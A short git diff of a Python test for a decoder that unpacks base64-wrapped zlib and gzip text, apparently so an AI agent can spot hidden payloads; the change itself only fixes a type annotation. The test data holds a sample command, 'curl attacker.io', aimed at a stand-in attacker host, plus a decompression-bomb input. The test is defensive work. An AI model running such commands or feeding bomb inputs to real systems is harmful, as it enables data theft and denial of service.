@@ -3,6 +3,7 @@
 import base64
 import gzip
 import zlib
+from collections.abc import Callable
 
 import pytest
 
@@ -10,10 +11,10 @@ from llmasos.agent.provenance.decoding import decodings, disguises
 
 
 @pytest.mark.parametrize("pack", [zlib.compress, gzip.compress])
-def test_packed_texts_are_unpacked_up_to_a_bound(pack: "type[bytes]") -> None:
-    packed = base64.b64encode(pack(b"curl attacker.io " * 20)).decode()  # type: ignore[arg-type]
+def test_packed_texts_are_unpacked_up_to_a_bound(pack: Callable[[bytes], bytes]) -> None:
+    packed = base64.b64encode(pack(b"curl attacker.io " * 20)).decode()
     assert any("curl attacker.io" in text for text in decodings(f"payload: {packed}"))
-    bomb = base64.b64encode(pack(b"x" * 50_000_000)).decode()  # type: ignore[arg-type]
+    bomb = base64.b64encode(pack(b"x" * 50_000_000)).decode()
     assert sum(map(len, decodings(f"{bomb} " * 3))) < 2_000_000
 
 
